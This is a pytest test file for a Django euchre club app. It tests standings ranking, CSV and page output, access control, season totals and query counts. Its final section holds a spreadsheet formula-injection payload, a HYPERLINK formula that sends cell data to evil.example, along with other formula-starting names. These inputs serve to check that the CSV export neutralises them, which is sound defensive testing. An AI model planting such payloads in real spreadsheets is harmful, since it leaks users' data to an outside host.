"""Standings: the ranking rules by value, then a small night whose every number is worked out
by hand below, through the pages (sorting, CSV, projector, a player's night, the season),
access, and a 200-table, 10-round event in a fixed number of queries."""

import csv
import datetime
import io
import re
from decimal import Decimal

import pytest
from conftest import close_round
from django.db import connection
from django.urls import reverse

from clubs.models import Player
from tournaments import services
from tournaments.models import Entry, Event, Hand, Partnership, Round, Seat, Table
from tournaments.standings import (
    PlayerLine,
    TeamLine,
    event_standings,
    fmt,
    fmt_place,
    pairs_key,
    progressive_key,
    rank,
    season_standings,
    sit_out_value,
)

# --- The ranking, by value -------------------------------------------------------------------


def line(name, rounds, lone=0, euchred=0, sat_out=()):
    return PlayerLine(
        1, name, rounds=dict(rounds), lone_made=lone, euchred=euchred, sat_out=set(sat_out)
    )


def places(lines):
    return [(x.name, x.place, x.shared) for x in lines]


def test_more_points_rank_first():
    ranked = rank([line("Low", {1: 3}), line("High", {1: 9})], progressive_key)
    assert places(ranked) == [("High", 1, False), ("Low", 2, False)]


def test_lone_hands_made_break_a_tie_on_points():
    ranked = rank(
        [line("Ann", {1: 5}, lone=0, euchred=0), line("Bob", {1: 5}, lone=2, euchred=3)],
        progressive_key,
    )
    # Bob was euchred more, but loners come first among the tie-breaks.
    assert places(ranked) == [("Bob", 1, False), ("Ann", 2, False)]


def test_fewer_euchres_break_a_tie_on_points_and_loners():
    ranked = rank(
        [line("Ann", {1: 5}, lone=1, euchred=2), line("Bob", {1: 5}, lone=1, euchred=1)],
        progressive_key,
    )
    assert places(ranked) == [("Bob", 1, False), ("Ann", 2, False)]


def test_a_complete_tie_shares_the_place_and_the_next_place_is_skipped():
    ranked = rank(
        [
            line("Cy", {1: 5}, lone=1),
            line("Al", {1: 5}, lone=1),
            line("Top", {1: 8}),
            line("Last", {1: 1}),
        ],
        progressive_key,
    )
    assert places(ranked) == [
        ("Top", 1, False),
        ("Al", 2, True),  # shared places list by name
        ("Cy", 2, True),
        ("Last", 4, False),
    ]


def test_sit_out_average_of_other_rounds_to_one_decimal():
    assert sit_out_value([5, 10, 4], "average", 0) == Decimal("6.3")
    assert sit_out_value([4, 5], "average", 0) == Decimal("4.5")
    assert sit_out_value([3, 7, 5], "average", 0) == 5
    assert sit_out_value([], "average", 0) == 0


def test_sit_out_fixed_points_ignore_the_other_rounds():
    assert sit_out_value([10, 10], "fixed", 3) == 3


def test_points_print_whole_numbers_plainly_and_averages_to_one_decimal():
    assert [fmt(7), fmt(Decimal("6.0")), fmt(Decimal("6.3")), fmt(None)] == ["7", "6", "6.3", ""]


def test_pairs_rank_by_games_won_then_difference_then_points_for():
    def team(name, won, pf, pa):
        return TeamLine(1, name, games_won=won, points_for=pf, points_against=pa)

    ranked = rank(
        [
            team("Most points", 1, 30, 10),
            team("Most wins", 2, 10, 20),
            team("Better difference", 1, 20, 5),
            team("More points for", 1, 25, 10),
        ],
        pairs_key,
    )
    assert [t.name for t in ranked] == [
        "Most wins",
        "Most points",  # +20
        "More points for",  # +15, 25 for
        "Better difference",  # +15, 20 for
    ]


# --- A small night, worked out by hand -------------------------------------------------------
#
# Nine players A..I, two tables, two hands a round (Hoyle: march 2, lone march 4, euchre 2).
# Round 1: table 1 N=A E=B S=C W=D; table 2 N=E E=F S=G W=H; I sits out.
#   t1: A (North) alone, 5 tricks -> NS 4 (A's lone hand made); East calls, 1 trick -> NS 2
#       (B and D euchred as makers).                                    NS 6, EW 0
#   t2: East calls, 3 tricks -> EW 1; South calls, 0 tricks -> EW 2 (E, G euchred). EW 3.
# Round 2: table 1 N=I E=A S=B W=C; table 2 N=D E=E S=F W=G; H sits out.
#   t1: North calls, 4 -> NS 1; West (C) alone, 3 -> EW 1 (C's lone hand). 1-1
#   t2: North marches -> NS 2; East calls, 4 -> EW 1.                      NS 2, EW 1
# Totals: A 6+1=7 (1 loner), C 6+1=7 (1 loner), H 3 + 3* = 6, F 3+2=5, I 1*+1=2 (0 euchred),
# D 0+2=2 (1 euchred), B, E, G 1 each (1 euchred each).

ROUND_1 = {
    1: ("ABCD", [{"maker": "N", "alone": True, "tricks": 5}, {"maker": "E", "tricks": 1}]),
    2: ("EFGH", [{"maker": "E", "tricks": 3}, {"maker": "S", "tricks": 0}]),
}
ROUND_2 = {
    1: ("IABC", [{"maker": "N", "tricks": 4}, {"maker": "W", "alone": True, "tricks": 3}]),
    2: ("DEFG", [{"maker": "N", "tricks": 5}, {"maker": "E", "tricks": 4}]),
}
EXPECTED = [
    # place, name, R1, R2, total, loners made, euchred as makers
    ("1=", "A", "6", "1", "7", "1", "0"),
    ("1=", "C", "6", "1", "7", "1", "0"),
    ("3", "H", "3", "3*", "6", "0", "0"),
    ("4", "F", "3", "2", "5", "0", "0"),
    ("5", "I", "1*", "1", "2", "0", "0"),
    ("6", "D", "0", "2", "2", "0", "1"),
    ("7=", "B", "0", "1", "1", "0", "1"),
    ("7=", "E", "0", "1", "1", "0", "1"),
    ("7=", "G", "0", "1", "1", "0", "1"),
]


def play_round(event, number, layout, sit_out=(), by_name=None, close=True):
    """Seat a round exactly as given (no random seating) and enter its hands through the
    service, so every point is the scoring engine's."""
    round_ = Round.objects.create(event=event, number=number)
    for table_number, (letters, hands) in layout.items():
        players = [by_name[x] for x in letters]
        table = Table.objects.create(round=round_, number=table_number, captain=players[0])
        Seat.objects.bulk_create(
            Seat(round=round_, table=table, position=p, player=pl)
            for p, pl in zip("NESW", players, strict=True)
        )
        for i, data in enumerate(hands, start=1):
            services.hand_record(table=table, number=i, data=data)
    Seat.objects.bulk_create(Seat(round=round_, player=by_name[x]) for x in sit_out)
    if close:
        close_round(round_)
    return round_


def build_night(club) -> tuple[Event, dict[str, Player]]:
    """The night above, closed after round 2 of 3; also used by tests/test_printouts.py."""
    nine = {x: Player.objects.create(club=club, name=x) for x in "ABCDEFGHI"}
    event = Event.objects.create(
        club=club,
        name="Small night",
        date=datetime.date(2026, 11, 24),
        rounds_planned=3,
        hands_per_round=2,
    )
    Entry.objects.bulk_create(Entry(event=event, player=p) for p in nine.values())
    play_round(event, 1, ROUND_1, sit_out="I", by_name=nine)
    play_round(event, 2, ROUND_2, sit_out="H", by_name=nine)
    return event, nine


@pytest.fixture
def world(club):
    return build_night(club)


@pytest.fixture
def night(world):
    return world[0]


@pytest.fixture
def nine(world):
    return world[1]


def as_rows(standings):
    from tournaments.standings import fmt_place, fmt_round

    return [
        (
            fmt_place(x),
            x.name,
            fmt_round(x, 1),
            fmt_round(x, 2),
            fmt(x.total),
            str(x.lone_made),
            str(x.euchred),
        )
        for x in standings.players
    ]


def test_event_standings_match_the_night_worked_out_by_hand(night):
    assert as_rows(event_standings(night)) == EXPECTED


def test_fixed_sit_out_points_replace_the_average(night):
    night.sit_out_rule = Event.SitOutRule.FIXED
    night.sit_out_points = 4
    night.save()
    rows = {r[1]: r for r in as_rows(event_standings(night))}
    assert rows["H"][3:5] == ("4*", "7")
    assert rows["I"][2:5] == ("4*", "1", "5")
    # H has A's and C's 7 points but no loner: third. F and I tie on everything: 4=.
    assert [rows[x][0] for x in "ACHFI"] == ["1=", "1=", "3", "4=", "4="]


def test_hand_corrections_show_in_the_standings(night, director):
    hand = Hand.objects.get(table__round__number=2, table__number=2, number=1)
    services.hand_correct(hand=hand, data={"tricks": 4}, reason="It was 4 tricks", user=director)
    rows = {r[1]: r for r in as_rows(event_standings(night))}
    # D and F's march became a 1-point hand.
    assert rows["D"][3:5] == ("1", "1")
    assert rows["F"][3:5] == ("1", "4")


def page_cells(html: str) -> list[list[str]]:
    import re

    body = html.split("<tbody", 1)[1].split("</tbody>", 1)[0]
    return [
        [
            re.sub(r"<[^>]+>", "", cell).strip()
            for cell in re.findall(r"<td[^>]*>(.*?)</td>", row, re.S)
        ]
        for row in re.findall(r"<tr[^>]*>(.*?)</tr>", body, re.S)
    ]


def test_standings_page_shows_the_same_numbers(director_client, night):
    response = director_client.get(reverse("tournaments:standings", args=[night.pk]))
    assert response.status_code == 200
    assert [tuple(r) for r in page_cells(response.content.decode())] == EXPECTED
    # Two of the night's three rounds are played: not final yet.
    assert "Standings after 2 of 3 rounds." in response.content.decode()
    assert "Final standings" not in response.content.decode()


def test_standings_are_final_once_the_planned_rounds_are_played(director_client, night):
    Event.objects.filter(pk=night.pk).update(rounds_planned=2)  # the director ends the night
    response = director_client.get(reverse("tournaments:standings", args=[night.pk]))
    assert "Final standings after 2 rounds." in response.content.decode()


def test_standings_page_sorts_by_a_column(director_client, night):
    url = reverse("tournaments:standings", args=[night.pk])
    rows = page_cells(director_client.get(url + "?sort=-r1").content.decode())
    assert [r[2] for r in rows][:3] == ["6", "6", "3"]
    rows = page_cells(director_client.get(url + "?sort=euchred").content.decode())
    assert [r[6] for r in rows] == sorted(r[6] for r in rows)


def test_a_players_row_links_to_their_night(director_client, night, nine):
    url = reverse("tournaments:player-night", args=[night.pk, nine["A"].pk])
    page = director_client.get(reverse("tournaments:standings", args=[night.pk])).content.decode()
    assert f'href="{url}"' in page
    night_page = director_client.get(url).content.decode()
    # Round 1 at table 1 North with C against B and D; A's lone march and the running score.
    assert "table 1, N" in night_page
    # Names sit in <bdi>, so a right-to-left name cannot flip the words around it.
    assert "Partner <bdi>C</bdi>" in night_page
    assert "against <bdi>B</bdi> and <bdi>D</bdi>" in night_page
    assert "North-South march alone: 4 points" in night_page
    assert "6\u00a0–\u00a00" in night_page  # after both hands of round 1
    assert "Round 2" in night_page and "table 1, E" in night_page


def test_a_sit_out_round_shows_its_rule_on_the_players_night(director_client, night, nine):
    url = reverse("tournaments:player-night", args=[night.pk, nine["H"].pk])
    page = director_client.get(url).content.decode()
    assert "sat out" in page and "Scored 3 by the event" in page


def test_csv_download_is_the_same_table_with_numbers_in_numeric_columns(director_client, night):
    response = director_client.get(reverse("tournaments:standings-csv", args=[night.pk]))
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    # The sit-out mark ("3*" on the page) is a column of its own, its header saying what it
    # means: every round cell is a number a spreadsheet can add.
    assert rows[0] == [
        "Place",
        "Player",
        "R1",
        "R2",
        "Total",
        "Loners made",
        "Euchred as makers",
        "Rounds sat out (scored the average of their other rounds, to one decimal)",
    ]
    marked = {"H": "2", "I": "1"}
    assert [tuple(r) for r in rows[1:]] == [
        (*(cell.rstrip("*") for cell in row), marked.get(row[1], "")) for row in EXPECTED
    ]
    numbers = [cell for row in rows[1:] for cell in row[2:7]]
    assert all(re.fullmatch(r"-?\d+(\.\d)?", cell) for cell in numbers)


def test_a_late_arrivals_missed_rounds_are_their_own_csv_column(director_client, night, nine):
    # J arrives for round 3 and scores a fixed 2 for each round missed.
    Event.objects.filter(pk=night.pk).update(
        missed_round=Event.MissedRound.FIXED, missed_round_points=2
    )
    night.refresh_from_db()
    nine["J"] = Player.objects.create(club=night.club, name="J")
    Entry.objects.create(event=night, player=nine["J"])
    hands = [{"maker": "E", "tricks": 3}, {"maker": "E", "tricks": 3}]  # J (West) and B: 2
    play_round(night, 3, {1: ("ABCJ", hands)}, "DEFGHI", by_name=nine)
    url = reverse("tournaments:standings-csv", args=[night.pk])
    rows = list(csv.reader(io.StringIO(director_client.get(url).content.decode())))
    assert rows[0][-1] == "Rounds missed, arrived late (scored a fixed 2 points for each)"
    (j,) = [r for r in rows if r[1] == "J"]
    assert j[2:6] == ["2", "2", "2", "6"] and j[-2:] == ["", "1 2"]
    page = director_client.get(reverse("tournaments:standings", args=[night.pk])).content
    assert "2†" in page.decode()  # the page keeps its mark


def test_projector_refreshes_itself_until_the_night_is_over(director_client, night, nine):
    url = reverse("tournaments:standings-projector", args=[night.pk])
    # Between rounds 2 and 3: it must notice when round 3 is seated.
    assert 'data-refresh="30"' in director_client.get(url).content.decode()
    play_round(night, 3, {1: ("ABCD", [{"maker": "N", "tricks": 3}])}, by_name=nine, close=False)
    page = director_client.get(url).content.decode()
    assert '<meta http-equiv="refresh" content="30">' in page  # without a script
    assert 'data-refresh="30"' in page  # with it (static/projector.js)
    assert "round 3 in play" in page
    close_round(night.rounds.get(number=3), reason="Time called")
    page = director_client.get(url).content.decode()
    assert "Final standings" in page
    assert 'http-equiv="refresh"' not in page and 'data-refresh="0"' in page


@pytest.mark.parametrize("name", ["standings", "standings-projector", "standings-csv"])
def test_another_clubs_director_cannot_see_the_standings(client, other_director, night, name):
    client.force_login(other_director)
    assert client.get(reverse(f"tournaments:{name}", args=[night.pk])).status_code == 404


def test_another_clubs_director_cannot_see_a_players_night_or_the_season(
    client, other_director, night, nine, club
):
    client.force_login(other_director)
    url = reverse("tournaments:player-night", args=[night.pk, nine["A"].pk])
    assert client.get(url).status_code == 404
    assert client.get(reverse("seasons:standings", args=[club.slug])).status_code == 404


def test_standings_need_a_login(client, night):
    response = client.get(reverse("tournaments:standings", args=[night.pk]))
    assert response.status_code == 302 and "/accounts/login/" in response["Location"]


def test_a_player_of_another_event_has_no_night_here(director_client, night, club):
    stranger = Player.objects.create(club=club, name="Stranger")
    url = reverse("tournaments:player-night", args=[night.pk, stranger.pk])
    assert director_client.get(url).status_code == 404


# --- Pairs -----------------------------------------------------------------------------------
#
# Same players A..H in four fixed partnerships: P1 A&C, P2 B&D, P3 E&G, P4 F&H.
# Round 1: t1 P1 (NS) 6 - P2 0; t2 P3 (NS) 0 - P4 3.   Round 2: t1 N=A E=E S=C W=G: P1 1 - P3 1
# (level: a tied game, half a game won to each); t2 N=B E=F S=D W=H: P2 2 - P4 1.
# P1 won 1.5, 7-1 (+6); P4 won 1, 4-2 (+2); P2 won 1, 2-7 (-5); P3 won 0.5, 1-4 (-3).


def pairs_event(club, nine, close=True) -> Event:
    event = Event.objects.create(
        club=club,
        name="Pairs",
        date=datetime.date(2026, 11, 25),
        format=Event.Format.PAIRS,
        rounds_planned=2,
        hands_per_round=2,
    )
    for pair in ("AC", "BD", "EG", "FH"):
        p = Partnership.objects.create(event=event)
        Entry.objects.bulk_create(Entry(event=event, player=nine[x], partnership=p) for x in pair)
    play_round(event, 1, ROUND_1, by_name=nine)
    second = {
        1: ("AECG", [{"maker": "N", "tricks": 4}, {"maker": "W", "alone": True, "tricks": 3}]),
        2: ("BFDH", [{"maker": "N", "tricks": 5}, {"maker": "E", "tricks": 4}]),
    }
    play_round(event, 2, second, by_name=nine, close=close)
    return event


def test_pairs_standings_games_won_then_difference(club, nine, director_client):
    event = pairs_event(club, nine)
    teams = event_standings(event).teams
    assert [(t.name, t.place, t.games_won, t.points_for, t.points_against) for t in teams] == [
        ("A & C", 1, Decimal("1.5"), 7, 1),
        ("F & H", 2, 1, 4, 2),
        ("B & D", 3, 1, 2, 7),
        ("E & G", 4, Decimal("0.5"), 1, 4),
    ]
    page = director_client.get(reverse("tournaments:standings", args=[event.pk])).content
    assert b"Partnerships" in page
    response = director_client.get(
        reverse("tournaments:standings-csv", args=[event.pk]) + "?pairs=1"
    )
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0][:2] == ["Place", "Partnership"] and rows[1][:4] == ["1", "A & C", "6", "1"]


def test_a_pairs_events_csv_is_the_partnership_ranking_headed_as_written(
    club, nine, director_client
):
    event = pairs_event(club, nine)
    url = reverse("tournaments:standings-csv", args=[event.pk])
    page = director_client.get(reverse("tournaments:standings", args=[event.pk])).content.decode()
    assert f'href="{url}">Download CSV of the partnerships</a>' in page
    assert f'href="{url}?players=1">Download CSV of the players</a>' in page
    rows = list(csv.reader(io.StringIO(director_client.get(url).content.decode())))
    # The header is the app's own words, with no formula guard's quote; a negative difference
    # is data and stays a number.
    assert rows[0] == [
        "Place",
        "Partnership",
        "R1",
        "R2",
        "Games won",
        "+/-",
        "Points for",
        "Points against",
    ]
    assert [r[1] for r in rows[1:]] == ["A & C", "F & H", "B & D", "E & G"]
    assert rows[3][5] == "-5" and rows[4][5] == "-3"
    players = list(
        csv.reader(io.StringIO(director_client.get(url + "?players=1").content.decode()))
    )
    assert players[0][:2] == ["Place", "Player"]


def test_named_partnerships_are_on_the_captains_and_the_round_pages(
    club, nine, director_client, client
):
    """Round 2, in play: at table 1 A & C (North-South) play E & G; only they are named."""
    event = pairs_event(club, nine, close=False)
    Partnership.objects.filter(entries__player=nine["A"]).update(name="The Aces")
    Partnership.objects.filter(entries__player=nine["E"]).update(name="Kings Row")
    table = Table.objects.get(round__event=event, round__number=2, number=1)
    captain = client.get(
        reverse("tournaments:captain-table", args=[table.card().token]) + f"?table={table.pk}"
    ).content.decode()
    assert "North-South: <bdi>The Aces</bdi> (<bdi>A</bdi> &amp; <bdi>C</bdi>)" in captain
    assert "East-West: <bdi>Kings Row</bdi> (<bdi>E</bdi> &amp; <bdi>G</bdi>)" in captain
    round_page = director_client.get(
        reverse("tournaments:round-detail", args=[table.round_id])
    ).content.decode()
    tables = round_page.split('id="table-')
    assert "North-South (<bdi>The Aces</bdi>) <strong>1</strong>" in tables[1]
    assert "East-West (<bdi>Kings Row</bdi>) <strong>1</strong>" in tables[1]
    # Table 2's partnerships have no name: the sides are said as before.
    assert "North-South <strong>2</strong> – East-West <strong>1</strong>" in tables[2]


def test_partners_share_their_place_in_a_pairs_events_players_ranking(club, nine, director_client):
    """A made a loner in round 1 and C none: in a progressive night that would part them, but
    partners play every hand together, so they take their partnership's place together: the
    place the partnerships' table prints, not a place of their own among the players."""
    from test_printouts import get_pdf, pdf_text, words

    event = pairs_event(club, nine)
    pdf = words(" ".join(pdf_text(get_pdf(director_client, "printout-standings", event))))
    assert "so each player takes their partnership's place." in pdf
    players = event_standings(event).players
    assert {x.name: x.lone_made for x in players if x.name in "AC"} == {"A": 1, "C": 0}
    assert [(x.name, fmt_place(x)) for x in players] == [
        ("A", "1"),
        ("C", "1"),
        ("F", "2"),
        ("H", "2"),
        ("B", "3"),
        ("D", "3"),
        ("E", "4"),
        ("G", "4"),
    ]


# --- The season ------------------------------------------------------------------------------


def test_season_sums_each_players_nights_in_the_date_range(club, nine, night, director_client):
    later = Event.objects.create(
        club=club, name="Next week", date=datetime.date(2026, 12, 1), hands_per_round=2
    )
    play_round(later, 1, ROUND_2, sit_out="H", by_name=nine)
    outside = Event.objects.create(
        club=club, name="Last year", date=datetime.date(2025, 12, 1), hands_per_round=2
    )
    play_round(outside, 1, ROUND_1, sit_out="I", by_name=nine)

    season = season_standings(club, datetime.date(2026, 1, 1), datetime.date(2026, 12, 31))
    totals = {x.name: (fmt(x.total), x.events, x.lone_made) for x in season.players}
    # Next week: A 1, C 1 (a loner), D 2, F 2, I 1, H sat out with no other round there: 0.
    assert totals["A"] == ("8", 2, 1)
    assert totals["C"] == ("8", 2, 2)
    assert totals["H"] == ("6", 2, 0)
    assert [e.name for e in season.events] == ["Small night", "Next week"]

    url = reverse("seasons:standings", args=[club.slug])
    page = director_client.get(url + "?start=2026-01-01&end=2026-12-31").content.decode()
    cells = {r[1]: r for r in page_cells(page)}
    assert cells["C"] == ["1", "C", "2", "8", "2", "0"]
    response = director_client.get(url + "?start=2026-01-01&end=2026-12-31&format=csv")
    assert "1,C,2,8,2,0" in response.content.decode().splitlines()


# --- Size: a fixed number of queries ---------------------------------------------------------


def bulk_event(club, *, tables: int, rounds: int, hands: int) -> Event:
    """An event of `tables` tables for `rounds` rounds, written with bulk_create: the points
    are set directly (a march for North-South, then a euchred East-West call), so the sizes
    can be large without entering thousands of hands through the engine."""
    event = Event.objects.create(
        club=club,
        name=f"{tables} tables",
        date=datetime.date(2026, 11, 26),
        rounds_planned=rounds,
        hands_per_round=max(hands, 1),
    )
    players = Player.objects.bulk_create(
        Player(club=club, name=f"Player {tables}-{i:04d}") for i in range(tables * 4)
    )
    round_objs = Round.objects.bulk_create(
        Round(event=event, number=n, status=Round.Status.CLOSED) for n in range(1, rounds + 1)
    )
    table_objs = Table.objects.bulk_create(
        Table(round=r, number=t, captain=players[(t - 1) * 4])
        for r in round_objs
        for t in range(1, tables + 1)
    )
    seats, hand_objs = [], []
    for table in table_objs:
        for i, position in enumerate("NESW"):
            # Place k of the round goes to player 7k + r: 7 is prime to 4 x tables (which is
            # 2^a 5^b here), so everyone is seated once a round, with new partners each round.
            k = (table.number - 1) * 4 + i
            player = players[(7 * k + table.round.number) % len(players)]
            seats.append(Seat(round=table.round, table=table, position=position, player=player))
        for h in range(1, hands + 1):
            march = h % 2
            hand_objs.append(
                Hand(
                    table=table,
                    number=h,
                    dealer="NESW"[(h - 1) % 4],
                    maker="N" if march else "E",
                    tricks=5 if march else 2,
                    ns_points=2,
                    ew_points=0,
                    outcome="march" if march else "euchred",
                    description="",
                )
            )
    Seat.objects.bulk_create(seats)
    Hand.objects.bulk_create(hand_objs, batch_size=2000)
    if connection.vendor == "postgresql":
        # Thousands of rows written inside the test's transaction, where autovacuum never
        # sees them: PostgreSQL's planner then works from whatever it last counted, and once
        # chose a plan for the standings that ran for half an hour. A server's tables are
        # analysed as they fill; here they are told now (ANALYZE sees this transaction's rows).
        with connection.cursor() as cursor:
            cursor.execute(
                "ANALYZE tournaments_round, tournaments_table, tournaments_seat, tournaments_hand"
            )
    return event


def test_standings_take_the_same_few_queries_whatever_the_size(
    director_client, club, django_assert_max_num_queries, django_assert_num_queries
):
    small = bulk_event(club, tables=2, rounds=2, hands=2)
    big = bulk_event(club, tables=200, rounds=10, hands=1)
    assert Seat.objects.filter(round__event=big).count() == 8000
    # 1 session, 2 user, 3 event (with club), 4 seats with their tables' hands summed, 5 the
    # players' names, 6 the rounds, 7 the night's money (none here: no prize table), 8 whether
    # the night was published here from a laptop, with the laptop's prize table then
    # (publishing/prizes.py; asked once a night in a process, then kept).
    for event in (small, big):
        with django_assert_num_queries(8):
            response = director_client.get(reverse("tournaments:standings", args=[event.pk]))
        assert response.status_code == 200
    # The page shows 50 players at a time, and the whole standings a page after another.
    rows = page_cells(response.content.decode())
    assert len(rows) == 50
    url = reverse("tournaments:standings", args=[big.pk])
    rows = [
        row
        for page in range(1, 17)
        for row in page_cells(director_client.get(f"{url}?page={page}").content.decode())
    ]
    assert len(rows) == 800 == len({r[1] for r in rows})
    # Each of the 2,000 tables gave its two North-South players a 2-point march.
    assert sum(int(r[-3]) for r in rows) == 2000 * 2 * 2


def test_a_seat_taken_away_while_the_standings_are_read_is_left_out(club):
    """The seats, the names and the rounds are three reads: a seat or a round taken away
    between them (a bracket's game undone) is left out, never a failed page."""
    from tournaments.standings import SEAT_PLAYER, _seating, _standings

    event = bulk_event(club, tables=2, rounds=2, hands=1)
    seating = _seating([event])
    gone = seating.seats[0][SEAT_PLAYER]
    del seating.names[gone]
    del seating.rounds[event.pk][2]
    standings = _standings(event, seating.seats, seating)
    assert len(standings.players) == 7
    assert gone not in {line.player_id for line in standings.players}
    assert standings.rounds == [1, 2]
    assert standings.in_play == [2]  # as a round in play: its points not yet final


def test_a_players_night_for_an_id_too_big_for_the_database_is_not_found(director_client, night):
    url = reverse("tournaments:player-night", args=[night.pk, 10**30])
    assert director_client.get(url).status_code == 404


# --- Spreadsheet safety -----------------------------------------------------------------------

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.mark.parametrize(
    "name", [EVIL, "+1+1", "-2+3", "@SUM(1,1)", "\tTabbed", "\rReturned"], ids=repr
)
def test_a_formula_for_a_name_reaches_both_csvs_as_text(director_client, club, world, name):
    night, nine = world
    Player.objects.filter(pk=nine["A"].pk).update(name=name)
    for url in (
        reverse("tournaments:standings-csv", args=[night.pk]),
        reverse("seasons:standings", args=[club.slug])
        + "?start=2026-01-01&end=2026-12-31&format=csv",
    ):
        rows = list(csv.reader(io.StringIO(director_client.get(url).content.decode())))
        cells = [cell for row in rows for cell in row]
        # The name reads as written after the quote a spreadsheet hides; no cell starts a formula.
        assert "'" + name in cells
        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
        assert not [c for c in cells if c.startswith("-") and not re.fullmatch(r"-\d+", c)]


def test_points_stay_numbers_in_the_csv():
    from tournaments.standings_views import spreadsheet_safe

    for number in ("-2", "14", "7.3", "7.3*", "-0.5"):
        assert spreadsheet_safe(number) == number
    assert spreadsheet_safe("-2-2") == "'-2-2"
    assert spreadsheet_safe(None) == ""
